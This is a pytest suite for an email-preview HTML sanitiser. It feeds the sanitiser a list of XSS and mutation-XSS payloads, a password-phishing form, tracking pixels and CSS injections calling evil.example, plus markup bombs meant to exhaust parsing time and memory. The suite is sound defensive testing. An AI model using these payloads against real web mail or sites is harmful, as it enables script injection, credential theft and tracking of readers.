"""Hostile content made safe: nothing active survives, and what was there is still told."""

import os
import random
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from goodsend.console.inert import ELEMENTS
from goodsend.console.links import host_of, links_of
from goodsend.console.preview import TOO_COSTLY, SafeHtml, document, sanitise, source_text
from goodsend.events.mime import parse_mail
from goodsend.wiring import load_pack
from tests.scanning.test_hypertext import HOSTILE

DATA = Path(os.environ.get("GOODSEND_DATA", Path(__file__).parents[3] / "shared" / "data"))

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a><a href=' jav&#x09;ascript:alert(1)'>y</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/p)'>x</div><div style='width:expression(alert(1))'>y</div>",
    "<p style='color:red;background-image:ur\\6c(https://evil.example)'>x</p>",
    "<img src='https://evil.example/p.gif'><img srcset='https://evil.example/q.gif 1x'>",
    "<video poster=https://evil.example/p><source src=https://evil.example/v></video>",
    "<table background=https://evil.example/p><tr><td background=https://evil.example/q>x</td></tr></table>",
    "<form action=https://evil.example><input name=password type=password><button>go</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<a href=x ping=https://evil.example target=_top>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


def active(markup: str) -> list[str]:
    """Whatever in this markup could run, load or lead away, as a browser would read it."""
    found = []
    tree = LexborHTMLParser(document(SafeHtml(markup, {}), ""))
    body = tree.body
    assert body is not None
    for node in body.traverse(include_text=False):
        if node.tag == "body":
            continue
        if node.tag not in ELEMENTS:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            text = (value or "").lower()
            if name.startswith("on") or name in ("href", "action", "srcset", "background", "poster", "ping", "srcdoc"):
                found.append(f"{node.tag} {name}")
            if name == "src" and not text.startswith(("data:image/png;", "data:image/gif;", "data:image/jpeg;")):
                found.append(f"{node.tag} src={text[:40]}")
            if any(word in text for word in ("url(", "expression", "javascript:", "@import")) and name != "alt":
                found.append(f"{node.tag} {name}={text[:40]}")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives(attack: str) -> None:
    """Each way of running, loading or sending something is gone."""
    safe = sanitise(f"<p>before</p>{attack}<p>after</p>")

    assert active(safe.markup) == []


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(alphabet="<>/\"'= ab\\&;#!-", max_size=30)), max_size=6))
def test_nothing_active_survives_in_any_mixture(parts: list[str]) -> None:
    """Pieces of attacks and broken markup between them make no new attack."""
    assert active(sanitise("".join(parts)).markup) == []


def test_links_are_laid_open_and_inert() -> None:
    """The words stay, the target stands beside them as text, and nothing can be clicked."""
    safe = sanitise("<p>Go to <a href='https://evil.example/x'>www.bank.example</a></p>")

    assert safe.markup == '<p>Go to <span class="gs-link">www.bank.example</span> [https://evil.example/x]</p>'


def test_remote_images_become_words_and_small_ones_stay() -> None:
    """A remote image would tell the sender that we look; an embedded one is a part of the message."""
    pixel = "data:image/png;base64,iVBORw0KGgo="
    safe = sanitise(f"<img src='https://t.example/p.gif' alt='Logo'><img src='{pixel}'>")

    assert f'[image: Logo from t.example]<img src="{pixel}">' == safe.markup
    assert safe.removed == {"remote image": 1}


def test_what_was_taken_out_is_counted() -> None:
    """The page says how much of which sort is not shown."""
    safe = sanitise("<script></script><form><input></form><p onclick=x>y</p>")

    assert safe.removed == {"script": 1, "form": 1, "form field": 1, "event handler": 1}


@pytest.mark.parametrize(
    "bomb", ["<div>" * 300_000, "<a href=x>" * 300_000, "<table><tr><td>" * 200_000], ids=["div", "a", "table"]
)
def test_bombs_are_not_shown_as_designed(bomb: str) -> None:
    """Where markup is too much of it, a sentence stands in its place."""
    assert TOO_COSTLY in sanitise("words" + bomb).markup


def inside(text: str) -> str:
    """Two million characters of this, or as much as the limit on tags lets through."""
    length = min(2_000_000, len(text) * 19_000 // max(1, text.count("<")))
    return (text * (length // len(text) + 1))[:length]


HOSTILE_PREVIEWS = {
    **HOSTILE,
    "adoption": "<i>" * 1_900 + "<p>" * 3_000,
    "adoption apart": "".join(f"<i id={number}>" for number in range(1_900)) + "<p>" * 18_000,
    "adoption in tables": "<table><b>" * 90 + "<i><td><p>" * 6_000,
    "adoption, styled": "".join(f"<font color=c{number}><p>" for number in range(9_500)),
    "fostered": inside("<table><div>x</div><tr>y<td></table>"),
    "deep and closing": inside("<div>" * 120 + "</div>" * 30),
    "deep and misnested": inside("<span>" * 98 + "<p></span></b>" * 200),
    "cells": inside("<tr><td><li><p><a href=x>y"),
    "tags": inside("<b>x</b>"),
    "links": inside(f"<a href='https://e.example/{'x' * 80}'>y"),
    "attributes of many": inside("<td " + " a" * 45 + ">"),
    "attributes long": inside("<td title=" + "x" * 90 + ">"),
    "styles, long": inside("<p style='" + "color:red;" * 9 + "'>"),
    "style, one": "<p style='" + "color:red;" * 199_000 + "'>x",
    "style, nested": "<p style='" + "a:(((((((" * 220_000 + "'>x",
    "many ampersands": "&" * 2_000_000,
    "references": "&lt;" * 500_000,
    "references, spread": ("&amp;" + "x" * 95) * 19_500,
    "references, cut short": "&notin" * 19_900,
    "signs": "< " * 1_000_000,
    "comments, short": "<!>a" * 500_000,
    "selects": inside("<select><option>"),
    "images": inside("<img alt=x src='https://e.example/'>"),
    "image, one": "<img src='data:image/png;base64," + "A" * 1_999_000 + "'>",
    "drawings": inside("<svg><p></p>"),
    "headings": inside("<h1><h2></h1>"),
    "lists": inside("<ul><li></ul></li>"),
    "letters": "\u202e" * 2_000_000,
}
COST = """
import resource, sys, time
from goodsend.console.preview import sanitise
sanitise("<p>warm</p>")
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
html = sys.stdin.buffer.read().decode()
started = time.process_time()
sanitise(html)
print(time.process_time() - started, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.parametrize("name", HOSTILE_PREVIEWS)
def test_hostile_markup_costs_little(name: str) -> None:
    """Any two million characters are done with in a second and a hundred megabytes."""
    done = subprocess.run(
        [sys.executable, "-c", COST], input=HOSTILE_PREVIEWS[name].encode(), capture_output=True, check=True
    )
    seconds, kilobytes = map(float, done.stdout.split())

    assert seconds < 1.0
    assert kilobytes < 100_000


def test_costs_grow_with_the_input_alone() -> None:
    """What comes out is bounded by what goes in, however it is misnested."""
    chance = random.Random(5)
    names = [*sorted(ELEMENTS), "a", "b", "i", "font", "nobr", "svg", "select", "form"]
    for _ in range(40):
        few = chance.sample(names, 4)
        html = "".join(
            f"<{chance.choice(('', '', '/'))}{chance.choice(few)} id={chance.random()}>x" for _ in range(3_000)
        )

        assert len(sanitise(html).markup) < 4 * len(html)


def test_costly_limits_let_newsletters_through() -> None:
    """Tables in tables, fonts and styles come out as they were, with nothing left open."""
    cell = '<td align="center"><font color="#333333" size=2><b>Offer</b> of the day</font></td>'
    row = f'<table width="600"><tr>{cell * 3}</tr></table>'
    html = f"<center>{'<table><tr><td>' * 12}{row * 40}{'</td></tr></table>' * 12}</center>"

    safe = sanitise(html)

    assert safe.removed == {}
    assert safe.markup.count("<td") == safe.markup.count("</td>") == 12 + 120
    assert safe.markup.count("font-weight:bold") == 120
    assert safe.markup.count("color:#333333;font-size:small") == 120


@pytest.mark.parametrize(
    ("html", "shown"),
    [
        ("<b>a<i>b</b>c</i>", '<span style="font-weight:bold">a<span style="font-style:italic">b</span></span>c'),
        ("<p>a<div>b</div>", "<p>a</p><div>b</div>"),
        ("<ul><li>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
        ("<svg><text>no</text></svg>yes", "yes"),
        ("<svg><text>no<p>yes", "<p>yes</p>"),
        ("<noscript>yes</noscript><template>no</template>", "yes"),
        ("<object>yes</object><button>go</button><textarea><b>x</b></textarea>", "yesgo&lt;b&gt;x&lt;/b&gt;"),
        ("<div>" * 102 + "x" + "</div>" * 102 + "y", "<div>" * 100 + "x" + "</div>" * 100 + "y"),
        ("1 < 2 &amp; 3 &lt; 4", "1 &lt; 2 &amp; 3 &lt; 4"),
    ],
)  # fmt: skip
def test_markup_is_written_anew(html: str, shown: str) -> None:
    """Elements end where browsers end them, as far as they are shown at all."""
    assert sanitise(html).markup == shown


def test_links_tell_where_they_lead_and_what_is_odd() -> None:
    """A link that names another host than its own, hides it, or runs a script is marked."""
    html = (
        "<a href='https://evil.example/a'>https://bank.example</a><a href='https://bank.example@evil.example/'>b</a>"
        "<a href='javascript:x()'>c</a><a href='https://shop.example/d'>shop.example</a>"
    )
    links = links_of(html, "see http://plain.example/e.")

    assert [link.host for link in links] == ["evil.example", "evil.example", "", "shop.example", "plain.example"]
    assert [link.trap for link in links] == [
        "says bank.example, leads to evil.example",
        "hides the host behind an @",
        "runs javascript: in the reader's program",
        None,
        None,
    ]


def test_broken_addresses_have_no_host() -> None:
    """An address that cannot be read is no reason to fail."""
    assert [host_of("http://[half"), host_of("::::")] == ["", ""]


def test_source_shows_what_is_hidden() -> None:
    """Control characters and reversed text cannot play tricks on who reads the source."""
    assert source_text(b"a\x1b[31m\xe2\x80\xaeb\xff") == "a\\x1b[31m\\u202eb\\xff"


def hostile_mails() -> Iterator[tuple[str, bytes]]:
    """The mails of the hostile set that inject scripts."""
    with tarfile.open(DATA / "mail" / "hostile.tar.xz") as archive:
        for member in archive:
            if "wooyun/" in member.name and member.isfile():
                handle = archive.extractfile(member)
                assert handle is not None
                yield member.name, handle.read()


@pytest.mark.skipif(not (DATA / "mail" / "hostile.tar.xz").exists(), reason="the shared corpora are not here")
def test_no_active_content_of_the_hostile_mails_survives() -> None:
    """All 79 mails made to inject scripts into web mail come out inert, whichever part is shown as HTML."""
    limits = load_pack(()).scanner.limits
    mails = dict(hostile_mails())

    survived = {}
    for name, raw in mails.items():
        message = parse_mail(raw, limits)
        shown = [part for part in (message.html, message.text, raw.decode("utf-8", "replace")) if part]
        found = [what for part in shown for what in active(sanitise(part).markup)]
        if found:
            survived[name] = found

    assert len(mails) == 79
    assert survived == {}
